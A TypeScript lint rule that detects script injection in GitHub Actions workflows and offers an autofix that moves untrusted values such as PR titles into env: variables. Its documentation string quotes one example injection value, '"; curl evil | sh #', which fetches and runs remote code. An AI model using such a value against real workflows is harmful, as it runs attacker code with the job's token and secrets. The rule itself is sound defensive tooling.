import { isScalar } from "yaml";
import { defineRule } from "../../define-rule.ts";
import { getNode, scalarString } from "../../../documents/ast.ts";
import { insertIntoBlockMap } from "../../../edits/block-map.ts";
import { planEdits, plannedEditsIn, type PlannedEdits } from "../../../edits/planned-edits.ts";
import { workflowOf } from "../../../workflows/index.ts";
import { untrustedPathsIn } from "../../../workflows/untrusted.ts";

interface Data {
  path: string;
  variable?: string;
  plan?: PlannedEdits;
}

export default defineRule<Data>({
  id: "workflows/script-injection",
  appliesTo: ["workflow", "action-metadata"],
  scope: "document",
  severity: "warning",
  recommended: true,
  docs: {
    summary: "A run: script or actions/github-script embeds untrusted input such as a pull request title with ${{ }}.",
    why: "GitHub pastes the value into the script before it runs, so a title like `\"; curl evil | sh #` runs as code with the job's token and secrets. Pass the value through env: and read it as a variable, which is never parsed as code.",
    invalid: { path: ".github/workflows/ci.yml", text: "on: pull_request\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n" },
    valid: { path: ".github/workflows/ci.yml", text: "on: pull_request\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$PR_TITLE\"\n" },
  },
  check(context) {
    const { file } = context;
    const model = workflowOf(context);
    const byScalar = new Map<unknown, typeof model.expressions>();
    for (const expression of model.expressions) {
      const list = byScalar.get(expression.scalar);
      if (list) list.push(expression);
      else byScalar.set(expression.scalar, [expression]);
    }
    for (const job of model.jobs) {
      const runsOn = getNode(job.node, "runs-on");
      const windows = () => (runsOn?.range ? /windows/i.test(file.text.slice(runsOn.range[0], runsOn.range[1])) : false);
      for (const step of job.steps) {
        const script = scriptOf(step.node, step.run);
        const expressions = script && byScalar.get(script.node);
        if (!script || !expressions) continue;
        const shell = scalarString(getNode(step.node, "shell")) ?? scalarString(getNode(getNode(getNode(job.node, "defaults"), "run"), "shell")) ?? (windows() ? "pwsh" : "bash");
        const used = new Set<string>(Object.keys(asRecord(getNode(step.node, "env"))));
        for (const expression of expressions) {
          const paths = untrustedPathsIn(expression.body);
          if (paths.length === 0) continue;
          const data: Data = { path: paths[0]! };
          const variable = variableFor(paths[0]!, used);
          const replacement = replacementFor(file.text, expression.start, expression.end, variable, script.kind, shell);
          if (replacement && (script.node.type === "BLOCK_LITERAL" || script.node.type === "BLOCK_FOLDED" || script.node.type === "PLAIN")) {
            const envEdits = insertIntoBlockMap(step.node, { env: { [variable]: `\${{ ${expression.body.trim()} }}` } }, file.lines);
            if (envEdits) {
              const edits = [...envEdits, { range: file.lines.rangeOf(replacement.start, replacement.end), newText: replacement.text }];
              data.variable = variable;
              const plan = planEdits(edits, step.node, file.text);
              if (plan) data.plan = plan;
              used.add(variable);
            }
          }
          const where = script.kind === "run" ? "this run: script" : "this github-script";
          context.report({
            at: [expression.start, expression.end],
            message: `${paths[0]} is set by whoever opens the pull request, issue or commit, and ${where} pastes it in as code, so it can run any command with the job's token. Pass it through env: and read the variable instead.`,
            data,
          });
        }
      }
    }
  },
  fix(data, context) {
    const edits = plannedEditsIn(data.plan, context);
    if (!edits || !data.variable) return [];
    return [{ title: `Move ${data.path} into env ${data.variable}`, safe: false, edits }];
  },
});

function scriptOf(step: unknown, run: import("yaml").Scalar | undefined): { node: import("yaml").Scalar; kind: "run" | "github-script" } | undefined {
  if (run && typeof run.value === "string") return { node: run, kind: "run" };
  const uses = scalarString(getNode(step, "uses"));
  if (uses && /^actions\/github-script@/i.test(uses)) {
    const script = getNode(getNode(step, "with"), "script");
    if (isScalar(script) && typeof script.value === "string") return { node: script, kind: "github-script" };
  }
  return undefined;
}

function asRecord(node: unknown): Record<string, unknown> {
  const record: Record<string, unknown> = {};
  for (const pair of (node as { items?: Array<{ key: unknown }> })?.items ?? []) if (isScalar(pair.key)) record[String(pair.key.value)] = true;
  return record;
}

/** `github.event.pull_request.title` becomes PULL_REQUEST_TITLE; a taken name gets a number. */
function variableFor(path: string, used: Set<string>): string {
  const parts = path.replace(/\[[^\]]*\]|\.\*/g, "").split(".").filter((part) => part !== "github" && part !== "event");
  const base = parts.slice(-2).join("_").replace(/[^A-Za-z0-9_]/g, "_").toUpperCase() || "VALUE";
  let name = base;
  for (let n = 2; used.has(name); n++) name = `${base}_${n}`;
  return name;
}

/** What replaces `${{ ... }}`: the variable, quoted for the shell unless the expression already sits inside double quotes. */
function replacementFor(text: string, start: number, end: number, variable: string, kind: "run" | "github-script", shell: string): { start: number; end: number; text: string } | undefined {
  const before = text[start - 1];
  const after = text[end];
  if (kind === "github-script") {
    if ((before === "'" || before === '"' || before === "`") && after === before) return { start: start - 1, end: end + 1, text: `process.env.${variable}` };
    return undefined;
  }
  const lineStart = text.lastIndexOf("\n", start) + 1;
  const quotesBefore = (text.slice(lineStart, start).match(/"/g) ?? []).length;
  const insideDouble = quotesBefore % 2 === 1;
  // Inside single quotes a variable is not expanded, so a person must requote the line.
  if (!insideDouble && (text.slice(lineStart, start).match(/'/g) ?? []).length % 2 === 1) return undefined;
  const name = shell.split(/\s/)[0];
  if (name === "bash" || name === "sh") return { start, end, text: insideDouble ? `\${${variable}}` : `"\$${variable}"` };
  if (name === "pwsh" || name === "powershell") return { start, end, text: insideDouble ? `$env:${variable}` : `"$env:${variable}"` };
  return undefined;
}
